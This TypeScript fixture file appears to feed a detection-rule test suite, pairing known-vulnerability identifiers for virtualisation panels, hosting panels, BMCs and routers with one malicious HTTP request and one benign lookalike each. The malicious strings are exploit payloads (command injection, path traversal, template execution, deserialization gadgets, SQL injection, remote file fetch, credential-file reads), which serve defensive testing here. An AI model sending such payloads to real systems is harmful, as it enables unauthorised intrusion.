import type { Cases } from './cases.ts';

export const virtualisationPanels: Cases = {
  'CVE-2021-21972': ['POST /ui/vropspluginui/rest/services/uploadova\n\nx', 'GET /ui/plugins'],
  'CVE-2021-21985': [
    'POST /ui/h5-vsan/rest/proxy/service/&vsanQueryUtil_setDataService/setTargetObject\n\n{"methodInput":[null]}',
    'GET /ui/vsan',
  ],
  'CVE-2021-22005': [
    'POST /analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../../../etc/cron.d/a\n\nx',
    'POST /analytics/collect\n\nx',
  ],
  'vcenter-eam-vib': [
    'GET /eam/vib?id=C:\\ProgramData\\VMware\\vCenterServer\\cfg\\vmware-vpx\\vcdb.properties',
    'GET /eam/vib?id=ab12',
  ],
  'vmware-sdk-looked-for': [
    'POST /sdk\n\n<RetrieveServiceContent xmlns="urn:internalvim25"/>',
    'GET /docs/sdk',
  ],
  'CVE-2022-22954': [
    'GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D',
    'GET /catalog-portal/ui/oauth/verify?deviceUdid=ab12',
  ],
  'CVE-2022-22972': [
    'POST /SAAS/auth/login/embeddedauthbroker/callback\n\nprotected_state=a',
    'GET /SAAS/auth/login',
  ],
  'CVE-2023-20887': ['POST /saas./resttosaasservlet\n\ncreateSupportBundle', 'GET /saas/status'],
  'CVE-2021-21975': ['POST /casa/nodes/thumbprints\n\n["198.51.100.7/"]', 'GET /casa/nodes'],
  'CVE-2021-39144': [
    'PUT /api/2.0/services/usermgmt/password/1\n\n<sorted-set><string>foo</string><dynamic-proxy/></sorted-set>',
    'PUT /api/2.0/services/users/1\n\n<a/>',
  ],
  'CVE-2020-3952': [
    'bytes:0\x82h\x81cn=a,cn=Users,dc=vsphere.local objectClass userPrincipalName a@vsphere.local',
    'bytes:login to vsphere.local',
  ],
  'CVE-2021-38647': [
    'POST /wsman\n\n<p:ExecuteShellCommand_INPUT xmlns:p="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"><p:command>id</p:command></p:ExecuteShellCommand_INPUT>',
    'POST /ws/manual\n\n<a/>',
  ],
  'CVE-2019-15107': [
    'POST /password_change.cgi\n\nuser=rootxx&pam=&expired=2&old=test|id&new1=a&new2=a',
    'GET /password_change.cgi',
  ],
  'CVE-2022-0824': [
    'POST /extensions/file-manager/http_download.cgi?module=filemin\n\nlink=http://198.51.100.7/a.cgi&path=/usr/share/webmin',
    'GET /file-manager/download.cgi?link=a',
  ],
  'CVE-2022-36446': [
    'POST /package-updates/update.cgi\n\nmode=new&search=ssh&redir=&u=0;id;',
    'POST /package-updates/update.cgi\n\nmode=new',
  ],
  'CVE-2022-44877': [
    'POST /login/index.php?login=$(id)\n\nusername=root',
    'POST /login/index.php?login=failed\n\nusername=root',
  ],
  'CVE-2025-48703': [
    'POST /mara/index.php?module=filemanager&acc=changePerm\n\nt_total=`id`',
    'POST /mara/index.php?module=filemanager&acc=list\n\na',
  ],
  'CVE-2024-51567': [
    'OPTIONS /dataBases/upgrademysqlstatus\n\n{"statusfile":"/dev/null; id; #","csrftoken":"a"}',
    'GET /databases/status',
  ],
  'CVE-2024-51378': ['OPTIONS /dns/getresetstatus\n\n{"statusfile":"/dev/null; id; #"}', 'GET /dns/status'],
  'CVE-2024-51568': [
    'POST /filemanager/upload\n\n--a\nContent-Disposition: form-data; name="completePath"\n\n/home/a; id\n--a--',
    'POST /filemanager/upload\n\nx',
  ],
  'CVE-2022-35914': [
    'POST /vendor/htmlawed/htmlawed/htmLawedTest.php\n\nsid=a&hhook=exec&text=id',
    'GET /vendor/htmlawed/readme',
  ],
  'CVE-2025-24799': [
    "POST /front/inventory.php\n\n<REQUEST><DEVICEID>a', sleep(5), 0) -- </DEVICEID></REQUEST>",
    'POST /front/inventory.php\n\n<REQUEST><DEVICEID>web-01</DEVICEID></REQUEST>',
  ],
  'CVE-2018-16763': [
    'GET /fuel/pages/select/?filter=%27%2bpi(print(%24a%3d%27system%27))%2b%24a(%27id%27)%2b%27',
    'GET /fuel/pages/select/?filter=news',
  ],
  'CVE-2019-16662': [
    'GET /install/lib/ajaxHandlers/ajaxServerSettingsChk.php?rootUname=;id%20%23',
    'GET /install/lib/settings.php',
  ],
  'CVE-2023-43208': [
    'POST /api/users\n\n<sorted-set><string>a</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>',
    'POST /api/users\n\n{"name":"mara"}',
  ],
  'dicom-archive-looked-for': [
    'GET /dicom-web/studies\nAccept: application/dicom+json',
    'GET /patients\nAccept: text/html',
  ],
  'CVE-2021-32648': [
    'POST /backend/backend/auth/reset/1/a\n\n{"code":true,"password":"a"}',
    'GET /backend/auth/signin',
  ],
  'CVE-2023-25717': [
    'GET /forms/doLogin?login_username=admin&password=password$(id)&x=0&y=0',
    'GET /forms/doLogin?login_username=admin&password=password',
  ],
  'CVE-2017-12542': [
    `GET /rest/v1/AccountService/Accounts\nConnection: ${'A'.repeat(29)}`,
    'GET /rest/v1/AccountService\nConnection: keep-alive',
  ],
  'CVE-2024-54085': [
    'POST /redfish/v1/AccountService/Accounts\nX-Server-Addr: 169.254.0.17:\n\n{"UserName":"a"}',
    'GET /redfish/v1/Systems',
  ],
  'bmc-looked-for': ['GET /redfish/v1', 'GET /fish/v1'],
  'CVE-2022-29464': ['POST /fileupload/toolsAny\n\nx', 'POST /fileupload/photo\n\nx'],
  'CVE-2020-26919': [
    'POST /login.htm\n\nsubmitId=debug&debugCmd=id&submitEnd=',
    'POST /login.htm\n\nsubmitId=login',
  ],
  'CVE-2020-17456': [
    'POST /cgi-bin/system_log.cgi\n\nCommand=Diagnostic&traceMode=ping&reportIpOnly=&pingIpAddr=;id&ipaddr=;id',
    'POST /cgi-bin/system_log.cgi\n\nCommand=Show',
  ],
  'CVE-2021-1473': [
    "POST /upload\nCookie: sessionid='`id`'\n\nx",
    'POST /upload\nCookie: sessionid=ab12\n\nx',
  ],
  'CVE-2023-39780': [
    'POST /start_apply.htm\n\noauth_google_refresh_token=%0aid;%0a',
    'POST /start_apply.htm\n\naction_mode=apply',
  ],
  'mikrotik-looked-for': ['GET /webfig/', 'GET /figures/web'],
  'web-shells-looked-for': [
    'GET /wp-content/plugins/hellopress/wp_filemanager.php',
    'GET /shelling/peas.php',
  ],
};
